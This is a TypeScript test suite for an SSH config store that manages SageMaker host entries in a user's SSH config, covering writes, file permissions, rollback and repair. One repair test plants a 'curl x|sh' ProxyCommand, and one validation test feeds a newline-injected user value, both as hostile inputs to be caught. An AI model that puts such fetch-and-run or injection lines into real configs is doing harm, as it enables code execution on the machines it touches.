import * as assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { InvalidHostAliasError } from '../../../../src/targets/targetErrors';
import { studioAlias, trainingAlias } from '../../../../src/targets/targetAlias';
import {
  DanglingConfigSymlinkError,
  ManagedBlockMarkersError,
  UnsupportedConfigPathError,
  UserSshConfigParseError,
  UserSshConfigReadError,
} from '../../../../src/ssh/config/errors';
import { InvalidProxyCommandError } from '../../../../src/proxy/proxyErrors';
import { BLOCK_BEGIN, BLOCK_END } from '../../../../src/ssh/config/includeBlock';
import { sshConfigPaths } from '../../../../src/ssh/config/sshConfigPaths';
import type { SshConfigPaths } from '../../../../src/ssh/config/sshConfigPaths';
import { SshConfigStore } from '../../../../src/ssh/config/sshConfigStore';
import type { HostSpec } from '../../../../src/ssh/config/sshConfigStore';
import { FileWriteError } from '../../../../src/util/fs/errors';
import { FaultyFileSystem } from '../helpers/faultyFileSystem';
import { listTree, modeOf, useTempDir } from '../../../support/tempDir';

const PROXY = ['/opt/vscode/code', '/opt/ext/dist/proxy.js', '%h'];
const JOB = trainingAlias('MyJob');
const JOB2 = trainingAlias('other-job', 2);
const SPACE = studioAlias('default', 'my-space', 'd-abc123');

function block(paths: SshConfigPaths, eol = '\n'): string {
  return [BLOCK_BEGIN, `Include "${paths.managedConfig}"`, BLOCK_END, ''].join(eol);
}

function hostBlock(
  alias: string,
  target: string,
  user: string,
  keyDir: string,
  paths: SshConfigPaths,
  proxy = PROXY,
): string {
  return (
    `Host ${alias}\n  HostName ${target}\n  HostKeyAlias ${target}\n  User ${user}\n` +
    `  IdentityFile "${path.join(keyDir, target)}"\n  IdentitiesOnly yes\n  UserKnownHostsFile "${paths.knownHosts}"\n` +
    '  StrictHostKeyChecking yes\n  PasswordAuthentication no\n  ServerAliveInterval 15\n  ServerAliveCountMax 8\n' +
    `  ConnectTimeout 60\n  ProxyCommand ${proxy.join(' ')}\n`
  );
}

const HEADER =
  '# Managed by the SageMaker SSH extension; rewritten on every connect, so do not edit it.\n' +
  '# Your SSH config includes this file from a marked "SageMaker SSH" block at its top.\n';

describe('SshConfigStore', () => {
  const tmp = useTempDir();
  const home = (): string => path.join(tmp(), 'home');
  const keyDir = (): string => path.join(tmp(), 'storage', 'ssh-keys');
  const paths = (): SshConfigPaths => sshConfigPaths({ homeDir: home() });
  const spec = (alias: string, extra: Partial<HostSpec> = {}): HostSpec => ({
    alias,
    identityFile: path.join(keyDir(), alias),
    proxyCommand: PROXY,
    user: 'root',
    ...extra,
  });
  const read = (file: string): Promise<string> => fs.readFile(file, 'utf8');

  describe('writing', () => {
    it('creates ~/.ssh (0700) and the user config (0600) with only our block, and our file (0600, dir 0700)', async () => {
      const store = new SshConfigStore({ paths: paths(), platform: 'posix' });
      await store.upsertHost(spec(JOB));
      const p = paths();
      assert.equal(await read(p.userConfig), block(p));
      assert.equal(await modeOf(p.userConfig), 0o600);
      assert.equal(await modeOf(path.dirname(p.userConfig)), 0o700);
      assert.equal(await modeOf(p.managedConfig), 0o600);
      assert.equal(await modeOf(path.dirname(p.managedConfig)), 0o700);
      assert.equal(
        await read(p.managedConfig),
        `${HEADER}\n${hostBlock(JOB, JOB, 'root', keyDir(), p)}\n${hostBlock('sagemaker-training', JOB, 'root', keyDir(), p)}`,
      );
      assert.deepEqual(await listTree(home()), [
        '.ssh',
        '.ssh/config',
        '.ssh/sagemaker-ssh',
        '.ssh/sagemaker-ssh/config',
      ]);
    });

    it('prepends the block to an existing config, keeping its bytes and mode', async () => {
      const p = paths();
      await fs.mkdir(path.dirname(p.userConfig), { recursive: true });
      const user = '\ufeffHost work\r\n\tUser me\r\n# no newline at end';
      await fs.writeFile(p.userConfig, user, { mode: 0o644 });
      await fs.chmod(p.userConfig, 0o644);
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      assert.equal(
        await read(p.userConfig),
        `\ufeff${block(p, '\r\n')}Host work\r\n\tUser me\r\n# no newline at end`,
      );
      assert.equal(await modeOf(p.userConfig), 0o644);
      await store.uninstall();
      assert.equal(await read(p.userConfig), user);
      assert.equal(await modeOf(p.userConfig), 0o644);
      await assert.rejects(fs.stat(p.managedConfig), { code: 'ENOENT' });
    });

    it('writes the login user it is given (loginUser decides it) and keeps both stable aliases', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      await store.upsertHost(spec(SPACE, { user: 'sagemaker-user' }));
      const hosts = await store.listHosts();
      assert.deepEqual(
        hosts.map((h) => [h.alias, h.hostName, h.user]),
        [
          ['default.my-space.d-abc123.studio.sagemaker', SPACE, 'sagemaker-user'],
          [JOB, JOB, 'root'],
          ['sagemaker-studio', SPACE, 'sagemaker-user'],
          ['sagemaker-training', JOB, 'root'],
        ],
      );
      await store.upsertHost(spec(SPACE, { user: 'root' }));
      assert.equal((await store.getHost('sagemaker-studio'))?.user, 'root');
    });

    it('points the stable alias at the most recent target and updates hosts in place', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      await store.upsertHost(spec(JOB2));
      assert.equal((await store.getHost('sagemaker-training'))?.hostName, JOB2);
      await store.upsertHost(spec(JOB, { proxyCommand: ['/new/exe', '%h'] }), { updateStableAlias: false });
      assert.equal((await store.getHost('sagemaker-training'))?.hostName, JOB2);
      assert.deepEqual((await store.getHost(JOB))?.proxyCommand, ['/new/exe', '%h']);
      assert.equal((await store.listHosts()).length, 3);
    });

    it('removes a host together with the stable alias that points at it', async () => {
      const store = new SshConfigStore({ paths: paths(), platform: 'posix' });
      await store.upsertHost(spec(JOB));
      await store.upsertHost(spec(SPACE));
      await store.removeHost(JOB);
      assert.deepEqual(
        (await store.listHosts()).map((h) => h.alias),
        [SPACE, 'sagemaker-studio'],
      );
      await store.removeHost('sagemaker-studio');
      assert.deepEqual(
        (await store.listHosts()).map((h) => h.alias),
        [SPACE],
      );
      assert.equal(await read(paths().userConfig), block(paths()));
    });

    it('rewrites every ProxyCommand when the extension moves (one argv, or one per host)', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      await store.upsertHost(spec(SPACE));
      const moved = ['/opt/vscode 2/code', '/home/u/.vscode/extensions/sm-0.2.0/dist/proxy.js', '%h'];
      assert.equal(await store.rewriteProxyCommands(moved), 4);
      for (const host of await store.listHosts()) {
        assert.deepEqual(host.proxyCommand, moved);
      }
      assert.ok(
        (await read(p.managedConfig)).includes(
          '  ProxyCommand "/opt/vscode 2/code" /home/u/.vscode/extensions/sm-0.2.0/dist/proxy.js %h\n',
        ),
      );
      await store.rewriteProxyCommands((host) => ['/bin/proxy', '--target', host.hostName]);
      assert.deepEqual((await store.getHost('sagemaker-studio'))?.proxyCommand, [
        '/bin/proxy',
        '--target',
        SPACE,
      ]);
    });

    it('repairs a hand-edited managed file and a deleted Include block', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      const good = await read(p.managedConfig);
      await fs.writeFile(p.managedConfig, `${good}\nHost evil\n  ProxyCommand sh -c 'curl x|sh'\n`);
      await fs.writeFile(p.userConfig, 'Host a\n');
      await store.repair();
      assert.equal(await read(p.managedConfig), good);
      assert.equal(await read(p.userConfig), `${block(p)}Host a\n`);
    });

    it('writes through a symlinked config to its target, atomically, keeping the link', async () => {
      const p = paths();
      const dotfiles = path.join(tmp(), 'dotfiles');
      await fs.mkdir(dotfiles, { recursive: true });
      await fs.mkdir(path.dirname(p.userConfig), { recursive: true });
      await fs.writeFile(path.join(dotfiles, 'ssh_config'), 'Host a\n', { mode: 0o640 });
      await fs.chmod(path.join(dotfiles, 'ssh_config'), 0o640);
      await fs.symlink('../../dotfiles/ssh_config', p.userConfig);
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB));
      assert.equal((await fs.lstat(p.userConfig)).isSymbolicLink(), true);
      assert.equal(await fs.readlink(p.userConfig), '../../dotfiles/ssh_config');
      assert.equal(await read(path.join(dotfiles, 'ssh_config')), `${block(p)}Host a\n`);
      assert.equal(await modeOf(path.join(dotfiles, 'ssh_config')), 0o640);
      assert.deepEqual(await listTree(dotfiles), ['ssh_config']);
    });

    it('writes the config named by remote.SSH.configFile (with ~), not ~/.ssh/config', async () => {
      const p = sshConfigPaths({ homeDir: home(), configFileSetting: '~/custom/ssh_config' });
      assert.equal(p.userConfig, path.join(home(), 'custom', 'ssh_config'));
      assert.equal(p.customUserConfig, true);
      await new SshConfigStore({ paths: p, platform: 'posix' }).upsertHost(spec(JOB));
      assert.equal(await read(p.userConfig), block(p));
      await assert.rejects(fs.stat(path.join(home(), '.ssh', 'config')), { code: 'ENOENT' });
    });
  });

  describe('refusing to write', () => {
    async function assertNothingWritten(before: string[]): Promise<void> {
      assert.deepEqual(await listTree(tmp()), before);
    }

    async function withUserConfig(content: string | Buffer): Promise<string[]> {
      const p = paths();
      await fs.mkdir(path.dirname(p.userConfig), { recursive: true });
      await fs.writeFile(p.userConfig, content);
      return listTree(tmp());
    }

    it('reports an unparsable config and writes nothing', async () => {
      const before = await withUserConfig('Host a\n  ProxyCommand "unterminated\n');
      await assert.rejects(new SshConfigStore({ paths: paths() }).upsertHost(spec(JOB)), (e: unknown) => {
        assert.ok(e instanceof UserSshConfigParseError);
        assert.match(e.message, /could not be parsed.*Open the file/);
        assert.deepEqual(e.actions[0].args, [paths().userConfig]);
        return true;
      });
      await assertNothingWritten(before);
      assert.equal(await read(paths().userConfig), 'Host a\n  ProxyCommand "unterminated\n');
    });

    it('reports an unreadable config (EACCES) and writes nothing', async () => {
      const before = await withUserConfig('Host a\n');
      const faulty = new FaultyFileSystem().fail({
        op: 'readFile',
        when: (f) => f === paths().userConfig,
        code: 'EACCES',
      });
      await assert.rejects(
        new SshConfigStore({ paths: paths(), fs: faulty }).upsertHost(spec(JOB)),
        (e: unknown) => {
          assert.ok(e instanceof UserSshConfigReadError);
          assert.match(e.message, /EACCES.*chmod 600/);
          return true;
        },
      );
      await assertNothingWritten(before);
    });

    it('reports a directory where the config should be and writes nothing', async () => {
      const p = paths();
      await fs.mkdir(p.userConfig, { recursive: true });
      const before = await listTree(tmp());
      await assert.rejects(new SshConfigStore({ paths: p }).upsertHost(spec(JOB)), UserSshConfigReadError);
      await assertNothingWritten(before);
    });

    it('reports a dangling symlink and writes nothing', async () => {
      const p = paths();
      await fs.mkdir(path.dirname(p.userConfig), { recursive: true });
      await fs.symlink(path.join(tmp(), 'missing'), p.userConfig);
      const before = await listTree(tmp());
      await assert.rejects(
        new SshConfigStore({ paths: p }).upsertHost(spec(JOB)),
        DanglingConfigSymlinkError,
      );
      await assertNothingWritten(before);
    });

    it('reports damaged markers with the line number and writes nothing', async () => {
      const before = await withUserConfig(`Host a\n${BLOCK_BEGIN}\nInclude "/x"\nHost b\n`);
      await assert.rejects(
        new SshConfigStore({ paths: paths() }).upsertHost(spec(JOB)),
        // The line is what the person needs to repair the file.
        { code: 'SSH_MANAGED_BLOCK_CORRUPT', message: /BEGIN marker on line 2 has no END marker/ },
      );
      await assert.rejects(new SshConfigStore({ paths: paths() }).uninstall(), ManagedBlockMarkersError);
      await assertNothingWritten(before);
    });

    it('rejects bad host specs before touching any file', async () => {
      const store = new SshConfigStore({ paths: paths(), platform: 'posix' });
      await assert.rejects(store.upsertHost(spec('sagemaker-training')), InvalidHostAliasError);
      await assert.rejects(store.upsertHost(spec('default.studio.sagemaker')), {
        code: 'SSH_INVALID_HOST_ALIAS',
        message: /full <app>/,
      });
      await assert.rejects(store.upsertHost(spec('MyJob.training.sagemaker')), InvalidHostAliasError);
      await assert.rejects(
        store.upsertHost(spec(JOB, { proxyCommand: ['/bin/sh', '-c', 'x $HOME'] })),
        InvalidProxyCommandError,
      );
      await assert.rejects(
        store.upsertHost(spec(JOB, { identityFile: 'keys/id' })),
        UnsupportedConfigPathError,
      );
      await assert.rejects(store.upsertHost(spec(JOB, { user: 'root\nProxyCommand x' })), {
        code: 'SSH_INVALID_HOST_ENTRY',
      });
      await assertNothingWritten([]);
    });
  });

  describe('failing half-way', () => {
    it('leaves nothing behind when our file hits ENOSPC mid-write on first install', async () => {
      const faulty = new FaultyFileSystem().fail({
        op: 'writeNewFile',
        when: (f) => f.includes('sagemaker-ssh'),
        code: 'ENOSPC',
        partialWrite: true,
      });
      await assert.rejects(
        new SshConfigStore({ paths: paths(), fs: faulty }).upsertHost(spec(JOB)),
        (e: unknown) => {
          assert.ok(e instanceof FileWriteError);
          assert.match(e.message, /ENOSPC.*Free some disk space/);
          return true;
        },
      );
      assert.deepEqual(await listTree(tmp()), []);
    });

    it('rolls back our new file and directories when the user config cannot be replaced', async () => {
      const faulty = new FaultyFileSystem().fail({
        op: 'rename',
        when: (f) => f === paths().userConfig,
        code: 'EACCES',
      });
      await assert.rejects(
        new SshConfigStore({ paths: paths(), fs: faulty }).upsertHost(spec(JOB)),
        FileWriteError,
      );
      assert.deepEqual(await listTree(tmp()), []);
    });

    it('restores our previous file exactly when the user config write fails on an update', async () => {
      const p = paths();
      await new SshConfigStore({ paths: p, platform: 'posix' }).upsertHost(spec(JOB));
      await fs.writeFile(p.userConfig, 'Host a\n', { mode: 0o600 });
      const managedBefore = await read(p.managedConfig);
      const treeBefore = await listTree(tmp());
      const faulty = new FaultyFileSystem().fail({
        op: 'writeNewFile',
        when: (f) => f.includes('.config.'),
        code: 'ENOSPC',
        partialWrite: true,
      });
      await assert.rejects(
        new SshConfigStore({ paths: p, fs: faulty, platform: 'posix' }).upsertHost(spec(JOB2)),
        FileWriteError,
      );
      assert.equal(await read(p.managedConfig), managedBefore);
      assert.equal(await read(p.userConfig), 'Host a\n');
      assert.deepEqual(await listTree(tmp()), treeBefore);
    });

    it('leaves nothing behind when ~/.ssh cannot be created', async () => {
      const p = sshConfigPaths({ homeDir: home(), managedDir: path.join(tmp(), 'managed') });
      const faulty = new FaultyFileSystem().fail({
        op: 'mkdir',
        when: (f) => f === path.join(home(), '.ssh'),
        code: 'EACCES',
      });
      await assert.rejects(new SshConfigStore({ paths: p, fs: faulty }).upsertHost(spec(JOB)), {
        code: 'SSH_FILE_WRITE_FAILED',
        message: /Check that your user owns/,
      });
      assert.deepEqual(await listTree(tmp()), []);
    });

    it('puts the Include back if our file cannot be deleted on uninstall', async () => {
      const p = paths();
      await new SshConfigStore({ paths: p, platform: 'posix' }).upsertHost(spec(JOB));
      const userBefore = await read(p.userConfig);
      const faulty = new FaultyFileSystem().fail({
        op: 'unlink',
        when: (f) => f === p.managedConfig,
        code: 'EBUSY',
      });
      await assert.rejects(new SshConfigStore({ paths: p, fs: faulty }).uninstall(), FileWriteError);
      assert.equal(await read(p.userConfig), userBefore);
    });
  });

  describe('taking back one change (issue 13, defect 5)', () => {
    it('keeps hosts others wrote since, the stable alias they took, and the Include', async () => {
      const p = paths();
      const mine = new SshConfigStore({ paths: p, platform: 'posix' });
      const other = new SshConfigStore({ paths: p, platform: 'posix' });
      const change = await mine.addHost(spec(JOB));
      await other.upsertHost(spec(JOB2));
      await mine.revertHost(change);
      assert.deepEqual(
        (await mine.listHosts()).map((h) => [h.alias, h.hostName]),
        [
          [JOB2, JOB2],
          ['sagemaker-training', JOB2],
        ],
      );
      assert.ok((await read(p.userConfig)).startsWith(block(p)));
    });

    it('puts back what the alias held before, not a snapshot of the whole file', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.upsertHost(spec(JOB, { proxyCommand: ['/old/proxy', '%h'] }));
      const change = await store.addHost(spec(JOB));
      await store.upsertHost(spec(SPACE));
      await store.revertHost(change);
      const hosts = await store.listHosts();
      assert.deepEqual(hosts.find((h) => h.alias === JOB)?.proxyCommand, ['/old/proxy', '%h']);
      assert.ok(hosts.some((h) => h.alias === SPACE));
    });

    it('on a machine without an ssh config, leaves no config, no Include and no file of ours', async () => {
      const p = paths();
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.revertHost(await store.addHost(spec(JOB)));
      await assert.rejects(fs.stat(p.userConfig), { code: 'ENOENT' });
      await assert.rejects(fs.stat(p.managedConfig), { code: 'ENOENT' });
    });

    it('gives the user config back byte for byte when it had content', async () => {
      const p = paths();
      await fs.mkdir(path.dirname(p.userConfig), { recursive: true });
      await fs.writeFile(p.userConfig, 'Host a\r\n  User b', { mode: 0o640 });
      const store = new SshConfigStore({ paths: p, platform: 'posix' });
      await store.revertHost(await store.addHost(spec(JOB)));
      assert.equal(await read(p.userConfig), 'Host a\r\n  User b');
      assert.equal(await modeOf(p.userConfig), 0o640);
    });
  });
});
